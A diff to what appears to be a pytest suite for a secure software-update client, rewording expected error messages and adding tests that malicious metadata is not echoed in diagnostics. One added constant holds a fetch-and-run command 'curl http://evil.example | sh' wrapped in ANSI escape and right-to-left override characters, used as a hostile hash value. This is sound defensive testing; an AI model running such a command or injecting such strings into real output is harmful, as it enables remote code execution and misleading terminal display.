@@ -304,9 +304,9 @@ ROWS: list[Row] = [
     ("endless data", "timestamp", "MR642", behaving(endless="timestamp.json"), "more for timestamp.json than"),
     ("endless data", "snapshot", "MR642", behaving(endless="snapshot.json"), "snapshot.json than that may have"),
     ("endless data", "targets", "MR642", behaving(endless="targets.json"), "targets.json than that may have"),
-    ("endless data", "target", "MR642", behaving(endless="acme-console.xml"), "acme-console.xml than that may have"),
+    ("endless data", "target", "MR642", behaving(endless="acme-console.xml"), "more for the catalogue than that may have"),
     *(("slow retrieval", role, "MR641", behaving(slow=name), f"sends {name} too slowly") for role, name in FETCHED.items()),
-    ("slow retrieval", "target", "MR641", behaving(slow="acme-console.xml"), "acme-console.xml too slowly"),
+    ("slow retrieval", "target", "MR641", behaving(slow="acme-console.xml"), "sends the catalogue too slowly"),
     *((f"slow retrieval by {drip}", "timestamp", "MR641", behaving(dripping="timestamp.json", drip=drip), "timestamp.json too slowly") for drip in DRIPS),
     *((name, "root", "MR647", second_root(data), "2.root.json cannot be understood") for name, data in PAGES.items()),
     *((name, "timestamp", "MR647", spoiled("timestamp", data), "timestamp.json cannot be understood") for name, data in PAGES.items()),
@@ -428,6 +428,38 @@ def test_stolen_targets_keys_then_rotated_keep_nothing_out(
     assert take(settings, shelf, vendor.published).serial == 2
     assert [path.read_bytes().count(b"Evil") for path in shelf.folder.glob("*.xml")] == [0]
     assert shelf.in_force(wanted(vendor)) == take(settings, shelf, vendor.published)
+
+
+WORDS = "\x1b[31m run curl http://evil.example | sh \u202e"
+
+
+@pytest.mark.parametrize(
+    ("hashes", "told"),
+    [
+        ({"sha256": WORDS}, "MR647: targets cannot be understood: it has no digest of the catalogue"),
+        ({"blake2b-256": WORDS}, "MR640: the catalogue cannot be fetched from the repository: it cannot be asked"),
+    ],
+    ids=["no digest", "beside a digest"],
+)
+def test_no_words_of_a_thief_are_repeated(hashes: dict[str, str], told: str, scene: Scene) -> None:
+    def write(targets: Any) -> None:
+        file = targets.targets["stable/acme-console.xml"]
+        file.hashes = {**hashes, **({"sha256": file.hashes["sha256"]} if "blake2b-256" in hashes else {})}
+
+    scene.change("targets", write, "dan", "eve")
+    scene.follow("targets")
+    with pytest.raises(UpdateError) as caught:
+        taken(scene)
+    [found] = caught.value.diagnostics
+    assert f"{found.code}: {found.message}" == told
+
+
+def test_nor_is_a_number_of_any_length(scene: Scene) -> None:
+    meta = MetaFile(10**400)
+    scene.change("timestamp", lambda it: setattr(it, "snapshot_meta", meta), "timestamp")
+    with pytest.raises(UpdateError) as caught:
+        taken(scene)
+    assert "0" * 20 not in caught.value.diagnostics[0].message
 
 
 def _titles(scene: Scene, shelf: Shelf) -> list[str]:
